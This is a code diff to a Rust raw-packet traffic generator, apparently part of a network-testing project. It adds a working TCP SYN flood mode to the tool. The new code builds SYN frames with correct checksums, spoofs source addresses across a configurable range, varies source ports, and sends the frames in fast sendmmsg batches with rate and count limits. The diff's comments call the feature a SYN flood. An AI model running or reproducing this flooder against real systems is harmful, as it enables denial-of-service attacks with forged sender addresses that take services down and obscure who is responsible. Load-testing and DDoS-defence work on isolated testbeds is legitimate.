@@ -29,6 +29,16 @@ struct Cli {
     /// Frames per second at most (0 = as fast as possible).
     #[arg(long, default_value_t = 0)]
     rate: u64,
+    /// Send TCP SYNs to this port instead of UDP: a SYN flood, each SYN from another source
+    /// port (and address, see --src-count).
+    #[arg(long, value_name = "PORT")]
+    syn: Option<u16>,
+    /// Spread source addresses over this many, counting up from --src-ip.
+    #[arg(long, default_value_t = 1)]
+    src_count: u32,
+    /// Stop after this many frames (0 = when --duration ends).
+    #[arg(long, default_value_t = 0)]
+    count: u64,
 }
 
 fn mac(s: &str) -> Result<[u8; 6]> {
@@ -67,6 +77,43 @@ fn frame(cli: &Cli, src_mac: [u8; 6]) -> Result<Vec<u8>> {
     Ok(f)
 }
 
+/// The i-th SYN of a flood: source address and port vary, checksums are right.
+fn syn_frame(cli: &Cli, src_mac: [u8; 6], dport: u16, i: u64) -> Result<Vec<u8>> {
+    let mut f = vec![0u8; 14 + 20 + 20];
+    f[0..6].copy_from_slice(&mac(&cli.dst_mac)?);
+    f[6..12].copy_from_slice(&src_mac);
+    f[12..14].copy_from_slice(&0x0800u16.to_be_bytes());
+    let src = Ipv4Addr::from(
+        u32::from(cli.src_ip).wrapping_add((i % u64::from(cli.src_count.max(1))) as u32),
+    );
+    let sport = 1024 + (i % 60000) as u16;
+    let ip = &mut f[14..];
+    ip[0] = 0x45;
+    ip[2..4].copy_from_slice(&40u16.to_be_bytes());
+    ip[4..6].copy_from_slice(&(i as u16).to_be_bytes());
+    ip[8] = 64;
+    ip[9] = 6;
+    ip[12..16].copy_from_slice(&src.octets());
+    ip[16..20].copy_from_slice(&cli.dst_ip.octets());
+    d11_wire::fill_ipv4_checksum(&mut ip[..20]);
+    let t = &mut ip[20..];
+    t[0..2].copy_from_slice(&sport.to_be_bytes());
+    t[2..4].copy_from_slice(&dport.to_be_bytes());
+    t[4..8].copy_from_slice(&(i as u32).wrapping_mul(2_654_435_761).to_be_bytes());
+    t[12] = 5 << 4;
+    t[13] = 0x02; // SYN
+    t[14..16].copy_from_slice(&64240u16.to_be_bytes());
+    let mut pseudo = Vec::with_capacity(32);
+    pseudo.extend_from_slice(&src.octets());
+    pseudo.extend_from_slice(&cli.dst_ip.octets());
+    pseudo.extend_from_slice(&[0, 6, 0, 20]);
+    pseudo.extend_from_slice(&t[..20]);
+    let c = d11_wire::internet_checksum(&pseudo);
+    t[16..18].copy_from_slice(&c.to_be_bytes());
+    f.resize(60, 0);
+    Ok(f)
+}
+
 fn main() -> std::process::ExitCode {
     let cli = Cli::parse();
     d11_element::main_with("d11-blast", || blast(&cli))
@@ -88,22 +135,32 @@ fn blast(cli: &Cli) -> Result<()> {
             .unwrap_or_default();
         mac(a.trim()).unwrap_or([2, 0, 0, 0, 0, 1])
     };
-    let f = frame(cli, src_mac)?;
     let mut sll: libc::sockaddr_ll = unsafe { std::mem::zeroed() };
     sll.sll_family = libc::AF_PACKET as u16;
     sll.sll_ifindex = idx as i32;
     sll.sll_halen = 6;
     const BATCH: usize = 64;
-    let mut iov = libc::iovec {
-        iov_base: f.as_ptr() as *mut _,
-        iov_len: f.len(),
+    // One frame repeated (UDP), or 64 distinct SYNs rewritten in place before each batch.
+    let mut frames: Vec<Vec<u8>> = match cli.syn {
+        Some(p) => (0..BATCH as u64)
+            .map(|i| syn_frame(cli, src_mac, p, i))
+            .collect::<Result<_>>()?,
+        None => vec![frame(cli, src_mac)?; BATCH],
     };
-    let mut msgs: Vec<libc::mmsghdr> = (0..BATCH)
-        .map(|_| {
+    let mut iovs: Vec<libc::iovec> = frames
+        .iter()
+        .map(|f| libc::iovec {
+            iov_base: f.as_ptr() as *mut _,
+            iov_len: f.len(),
+        })
+        .collect();
+    let mut msgs: Vec<libc::mmsghdr> = iovs
+        .iter_mut()
+        .map(|iov| {
             let mut h: libc::mmsghdr = unsafe { std::mem::zeroed() };
             h.msg_hdr.msg_name = (&mut sll as *mut libc::sockaddr_ll).cast();
             h.msg_hdr.msg_namelen = std::mem::size_of::<libc::sockaddr_ll>() as u32;
-            h.msg_hdr.msg_iov = &mut iov;
+            h.msg_hdr.msg_iov = iov;
             h.msg_hdr.msg_iovlen = 1;
             h
         })
@@ -112,16 +169,26 @@ fn blast(cli: &Cli) -> Result<()> {
     let dur = Duration::from_secs_f64(cli.duration);
     let mut sent: u64 = 0;
     let mut errors: u64 = 0;
-    while start.elapsed() < dur {
+    while start.elapsed() < dur && (cli.count == 0 || sent < cli.count) {
+        if let Some(p) = cli.syn {
+            for (k, f) in frames.iter_mut().enumerate() {
+                f.copy_from_slice(&syn_frame(cli, src_mac, p, sent + k as u64)?);
+            }
+        }
+        let left = if cli.count > 0 {
+            (cli.count - sent) as usize
+        } else {
+            BATCH
+        };
         let batch = if cli.rate > 0 {
             let due = (start.elapsed().as_secs_f64() * cli.rate as f64) as u64;
             if due <= sent {
                 std::hint::spin_loop();
                 continue;
             }
-            ((due - sent) as usize).min(BATCH)
+            ((due - sent) as usize).min(BATCH).min(left)
         } else {
-            BATCH
+            BATCH.min(left)
         };
         // SAFETY: msgs points at valid headers, iovec and address for the call's duration.
         let n = unsafe { libc::sendmmsg(fd, msgs.as_mut_ptr(), batch as u32, 0) };
